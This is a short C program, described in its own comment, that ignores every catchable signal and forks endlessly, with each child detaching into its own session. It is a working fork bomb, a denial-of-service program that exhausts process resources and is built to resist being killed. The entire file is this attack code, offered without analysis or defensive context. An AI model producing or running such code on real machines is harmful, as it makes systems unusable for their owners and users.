/* Fork for ever, in sessions of their own, deaf to every signal that can be ignored. */
#include <signal.h>
#include <unistd.h>

int main(void)
{
    for (int number = 1; number < 65; number++)
        signal(number, SIG_IGN);
    for (;;)
        if (fork() == 0)
            setsid();
}
